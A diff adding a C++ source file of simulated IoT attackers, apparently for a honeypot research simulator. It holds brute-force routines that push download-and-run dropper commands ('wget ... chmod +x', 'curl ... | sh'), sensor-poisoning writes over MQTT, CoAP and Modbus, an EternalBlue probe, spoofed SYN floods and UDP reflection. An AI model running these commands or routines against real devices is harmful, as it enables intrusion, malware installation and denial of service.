@@ -1,0 +1,364 @@
+#include "attackers/probes.h"
+
+#include "attackers/credentials.h"
+#include "net/fabric.h"
+#include "proto/amqp.h"
+#include "proto/coap.h"
+#include "proto/http.h"
+#include "proto/modbus.h"
+#include "proto/mqtt.h"
+#include "proto/s7.h"
+#include "proto/smb.h"
+#include "proto/ssdp.h"
+#include "proto/ssh.h"
+#include "proto/telnet.h"
+#include "proto/xmpp.h"
+
+namespace ofh::attackers {
+
+namespace {
+
+// Connects, optionally sends a stimulus, reads briefly and aborts.
+void tcp_touch(net::Host& from, util::Ipv4Addr target, std::uint16_t port,
+               util::Bytes stimulus) {
+  from.tcp().connect(target, port,
+                     [stimulus = std::move(stimulus), &from](
+                         net::TcpConnection* conn) mutable {
+                       if (conn == nullptr) return;
+                       if (!stimulus.empty()) conn->send(std::move(stimulus));
+                       const net::ConnKey key{conn->local_port(),
+                                              conn->remote_addr(),
+                                              conn->remote_port()};
+                       net::TcpStack* stack = &from.tcp();
+                       from.sim().after(sim::seconds(2), [stack, key] {
+                         net::TcpConnection* live = stack->lookup(key);
+                         if (live != nullptr) live->abort();
+                       });
+                     });
+}
+
+}  // namespace
+
+void probe_one_protocol(net::Host& from, util::Ipv4Addr target,
+                        proto::Protocol protocol) {
+  switch (protocol) {
+    case proto::Protocol::kTelnet:
+      tcp_touch(from, target, 23, {});
+      break;
+    case proto::Protocol::kMqtt: {
+      proto::mqtt::ConnectPacket connect;
+      connect.client_id = "probe";
+      tcp_touch(from, target, 1883, proto::mqtt::encode_connect(connect));
+      break;
+    }
+    case proto::Protocol::kAmqp:
+      tcp_touch(from, target, 5672, proto::amqp::protocol_header());
+      break;
+    case proto::Protocol::kXmpp:
+      tcp_touch(from, target, 5222,
+                util::to_bytes(proto::xmpp::stream_open("probe")));
+      break;
+    case proto::Protocol::kCoap:
+      from.udp().send(target, 5683,
+                      proto::coap::encode(
+                          proto::coap::make_discovery_request(1)));
+      break;
+    case proto::Protocol::kUpnp:
+      from.udp().send(target, 1900,
+                      proto::ssdp::encode_msearch(proto::ssdp::MSearch{}));
+      break;
+    case proto::Protocol::kSsh:
+      tcp_touch(from, target, 22, util::to_bytes("SSH-2.0-probe\r\n"));
+      break;
+    case proto::Protocol::kHttp: {
+      proto::http::Request request;
+      tcp_touch(from, target, 80, proto::http::encode_request(request));
+      break;
+    }
+    case proto::Protocol::kFtp:
+      tcp_touch(from, target, 21, {});
+      break;
+    case proto::Protocol::kSmb: {
+      proto::smb::SmbFrame negotiate;
+      negotiate.command = proto::smb::Command::kNegotiate;
+      tcp_touch(from, target, 445, proto::smb::encode_frame(negotiate));
+      break;
+    }
+    case proto::Protocol::kModbus: {
+      proto::modbus::Request request;
+      request.function = 0x11;  // report server id
+      tcp_touch(from, target, 502, proto::modbus::encode_request(request));
+      break;
+    }
+    case proto::Protocol::kS7:
+      tcp_touch(from, target, 102, proto::s7::encode_cotp_connect());
+      break;
+  }
+}
+
+void probe_all_protocols(net::Host& from, util::Ipv4Addr target) {
+  for (const auto protocol : proto::scanned_protocols()) {
+    probe_one_protocol(from, target, protocol);
+  }
+  probe_one_protocol(from, target, proto::Protocol::kSsh);
+  probe_one_protocol(from, target, proto::Protocol::kHttp);
+}
+
+void bruteforce_telnet(net::Host& from, util::Ipv4Addr target,
+                       std::vector<proto::Credentials> credentials,
+                       const MalwareSample* drop) {
+  std::vector<std::string> commands;
+  if (drop != nullptr) {
+    commands.push_back("wget " + drop->dropper_url + " -O /tmp/" +
+                       drop->variant + "; chmod +x /tmp/" + drop->variant +
+                       "; /tmp/" + drop->variant + " sha256=" + drop->sha256);
+  }
+  proto::telnet::TelnetClient::run(from, target, 23, std::move(credentials),
+                                   std::move(commands),
+                                   [](const auto&) {});
+}
+
+void bruteforce_ssh(net::Host& from, util::Ipv4Addr target,
+                    std::vector<proto::Credentials> credentials,
+                    const MalwareSample* drop) {
+  std::vector<std::string> commands;
+  if (drop != nullptr) {
+    commands.push_back("curl -s " + drop->dropper_url + " | sh # sha256=" +
+                       drop->sha256);
+  }
+  proto::ssh::SshClient::run(from, target, 22, std::move(credentials),
+                             std::move(commands), [](const auto&) {});
+}
+
+void attack_mqtt(net::Host& from, util::Ipv4Addr target, bool poison) {
+  proto::mqtt::ConnectPacket connect;
+  connect.client_id = "bot";
+  util::Bytes payload = proto::mqtt::encode_connect(connect);
+  proto::mqtt::SubscribePacket subscribe;
+  subscribe.packet_id = 1;
+  subscribe.topic_filters = {"$SYS/#", "#"};
+  const auto sub = proto::mqtt::encode_subscribe(subscribe);
+  payload.insert(payload.end(), sub.begin(), sub.end());
+  if (poison) {
+    proto::mqtt::PublishPacket publish;
+    publish.topic = "arduino/sensors/smoke";
+    publish.payload = util::to_bytes("0xDEAD");
+    publish.retain = true;
+    const auto pub = proto::mqtt::encode_publish(publish);
+    payload.insert(payload.end(), pub.begin(), pub.end());
+  }
+  tcp_touch(from, target, 1883, std::move(payload));
+}
+
+void attack_amqp(net::Host& from, util::Ipv4Addr target, int publish_count) {
+  util::Bytes payload = proto::amqp::protocol_header();
+  proto::amqp::Frame auth;
+  auth.type = proto::amqp::FrameType::kMethod;
+  auth.payload = proto::amqp::encode_start_ok(
+      proto::amqp::StartOkMethod{"ANONYMOUS", "", ""});
+  const auto auth_bytes = proto::amqp::encode_frame(auth);
+  payload.insert(payload.end(), auth_bytes.begin(), auth_bytes.end());
+  for (int i = 0; i < publish_count; ++i) {
+    const auto publish = proto::amqp::AmqpBroker::publish_command(
+        "sensor-readings", "junk-" + std::to_string(i));
+    payload.insert(payload.end(), publish.begin(), publish.end());
+  }
+  tcp_touch(from, target, 5672, std::move(payload));
+}
+
+void attack_xmpp(net::Host& from, util::Ipv4Addr target) {
+  from.tcp().connect(target, 5222, [](net::TcpConnection* conn) {
+    if (conn == nullptr) return;
+    auto stage = std::make_shared<int>(0);
+    conn->on_data = [stage](net::TcpConnection& conn,
+                            std::span<const std::uint8_t> data) {
+      const std::string text = util::to_string(data);
+      if (*stage == 0 &&
+          text.find("</stream:features>") != std::string::npos) {
+        *stage = 1;
+        conn.send_text(proto::xmpp::sasl_auth("ANONYMOUS", ""));
+      } else if (*stage == 1 && text.find("<success") != std::string::npos) {
+        *stage = 2;
+        conn.send_text(proto::xmpp::message_stanza(
+            "lights@philips-hue.local", "state=off"));
+      } else if (*stage == 2) {
+        conn.close();
+      }
+    };
+    conn->send_text(proto::xmpp::stream_open("bot"));
+  });
+}
+
+void attack_coap(net::Host& from, util::Ipv4Addr target, bool poison) {
+  from.udp().send(target, 5683,
+                  proto::coap::encode(proto::coap::make_discovery_request(7)));
+  if (poison) {
+    proto::coap::Message put;
+    put.code = proto::coap::Code::kPut;
+    put.message_id = 8;
+    put.set_uri_path("sensors/smoke");
+    put.payload = util::to_bytes("999");
+    from.udp().send(target, 5683, proto::coap::encode(put));
+  }
+}
+
+void flood_coap(net::Host& from, util::Ipv4Addr target, int packets) {
+  for (int i = 0; i < packets; ++i) {
+    from.udp().send(target, 5683,
+                    proto::coap::encode(proto::coap::make_discovery_request(
+                        static_cast<std::uint16_t>(i))));
+  }
+}
+
+void flood_ssdp(net::Host& from, util::Ipv4Addr target, int packets) {
+  const auto probe = proto::ssdp::encode_msearch(proto::ssdp::MSearch{});
+  for (int i = 0; i < packets; ++i) {
+    from.udp().send(target, 1900, probe);
+  }
+}
+
+void reflect_udp(net::Host& from, util::Ipv4Addr reflector,
+                 util::Ipv4Addr victim, proto::Protocol protocol,
+                 int packets) {
+  const util::Bytes probe =
+      protocol == proto::Protocol::kCoap
+          ? proto::coap::encode(proto::coap::make_discovery_request(3))
+          : proto::ssdp::encode_msearch(proto::ssdp::MSearch{});
+  const std::uint16_t port =
+      protocol == proto::Protocol::kCoap ? 5683 : 1900;
+  for (int i = 0; i < packets; ++i) {
+    from.udp().send_spoofed(victim, reflector, port, probe, 33'000);
+  }
+}
+
+void attack_http(net::Host& from, util::Ipv4Addr target, bool scrape,
+                 bool bruteforce) {
+  if (scrape) {
+    for (const char* path : {"/", "/admin", "/config", "/backup.zip",
+                             "/cgi-bin/luci", "/status"}) {
+      proto::http::Request request;
+      request.path = path;
+      tcp_touch(from, target, 80, proto::http::encode_request(request));
+    }
+  }
+  if (bruteforce) {
+    for (const char* pass : {"admin", "12345", "password"}) {
+      proto::http::Request request;
+      request.method = "POST";
+      request.path = "/login";
+      request.body = std::string("user=admin&pass=") + pass;
+      tcp_touch(from, target, 80, proto::http::encode_request(request));
+    }
+  }
+}
+
+void flood_http(net::Host& from, util::Ipv4Addr target, int requests) {
+  proto::http::Request request;
+  const auto bytes = proto::http::encode_request(request);
+  for (int i = 0; i < requests; ++i) {
+    tcp_touch(from, target, 80, util::Bytes(bytes));
+  }
+}
+
+void attack_smb(net::Host& from, util::Ipv4Addr target, bool exploit) {
+  proto::smb::SmbFrame negotiate;
+  negotiate.command = proto::smb::Command::kNegotiate;
+  util::Bytes payload = proto::smb::encode_frame(negotiate);
+  if (exploit) {
+    const auto probe = proto::smb::eternalblue_probe();
+    payload.insert(payload.end(), probe.begin(), probe.end());
+  } else {
+    proto::smb::SmbFrame setup;
+    setup.command = proto::smb::Command::kSessionSetup;
+    util::ByteWriter body;
+    body.str8("admin").str8("admin");
+    setup.payload = body.take();
+    const auto bytes = proto::smb::encode_frame(setup);
+    payload.insert(payload.end(), bytes.begin(), bytes.end());
+  }
+  tcp_touch(from, target, 445, std::move(payload));
+}
+
+void attack_ftp(net::Host& from, util::Ipv4Addr target,
+                const MalwareSample* drop) {
+  std::string script = "USER anonymous\r\nPASS bot@bot\r\n";
+  if (drop != nullptr) {
+    script += "STOR " + drop->variant + ".bin\r\n" + drop->payload.substr(0, 64) +
+              " sha256=" + drop->sha256 + "\r\n.\r\n";
+  }
+  script += "QUIT\r\n";
+  tcp_touch(from, target, 21, util::to_bytes(script));
+}
+
+void attack_modbus(net::Host& from, util::Ipv4Addr target, util::Rng& rng) {
+  util::Bytes payload;
+  // ~90% of observed Modbus traffic used invalid function codes (§5.1.4).
+  for (int i = 0; i < 10; ++i) {
+    proto::modbus::Request request;
+    request.transaction_id = static_cast<std::uint16_t>(i);
+    if (rng.chance(0.9)) {
+      request.function = static_cast<std::uint8_t>(0x60 + rng.below(0x20));
+    } else {
+      request.function = 0x06;  // write single register: the poisoning
+      util::ByteWriter args;
+      args.u16(static_cast<std::uint16_t>(rng.below(64)))
+          .u16(static_cast<std::uint16_t>(rng.below(0xffff)));
+      request.data = args.take();
+    }
+    const auto bytes = proto::modbus::encode_request(request);
+    payload.insert(payload.end(), bytes.begin(), bytes.end());
+  }
+  tcp_touch(from, target, 502, std::move(payload));
+}
+
+void attack_s7(net::Host& from, util::Ipv4Addr target, int jobs) {
+  util::Bytes payload = proto::s7::encode_cotp_connect();
+  for (int i = 0; i < jobs; ++i) {
+    const auto job = proto::s7::encode_pdu(
+        proto::s7::PduType::kJob, static_cast<std::uint16_t>(i), {});
+    payload.insert(payload.end(), job.begin(), job.end());
+  }
+  tcp_touch(from, target, 102, std::move(payload));
+}
+
+void syn_flood_spoofed(net::Host& from, util::Ipv4Addr victim,
+                       std::uint16_t port, int packets, util::Rng& rng) {
+  for (int i = 0; i < packets; ++i) {
+    net::Packet packet;
+    packet.src = util::Ipv4Addr(static_cast<std::uint32_t>(rng.next()));
+    packet.dst = victim;
+    packet.src_port = static_cast<std::uint16_t>(1024 + rng.below(60'000));
+    packet.dst_port = port;
+    packet.transport = net::Transport::kTcp;
+    packet.tcp_flags = net::TcpFlags::kSyn;
+    packet.spoofed_src = true;
+    from.fabric().send(std::move(packet));
+  }
+}
+
+void scan_address(net::Host& from, util::Ipv4Addr target,
+                  proto::Protocol protocol, bool masscan_fingerprint) {
+  if (proto::is_udp(protocol)) {
+    net::Packet packet;
+    packet.src = from.address();
+    packet.dst = target;
+    packet.src_port = 40'000;
+    packet.dst_port = proto::default_port(protocol);
+    packet.transport = net::Transport::kUdp;
+    packet.from_masscan = masscan_fingerprint;
+    packet.payload = util::to_bytes("probe");
+    from.fabric().send(std::move(packet));
+    return;
+  }
+  net::Packet packet;
+  packet.src = from.address();
+  packet.dst = target;
+  packet.src_port = 40'000;
+  packet.dst_port = proto::default_port(protocol);
+  packet.transport = net::Transport::kTcp;
+  packet.tcp_flags = net::TcpFlags::kSyn;
+  packet.from_masscan = masscan_fingerprint;
+  from.fabric().send(std::move(packet));
+}
+
+}  // namespace ofh::attackers
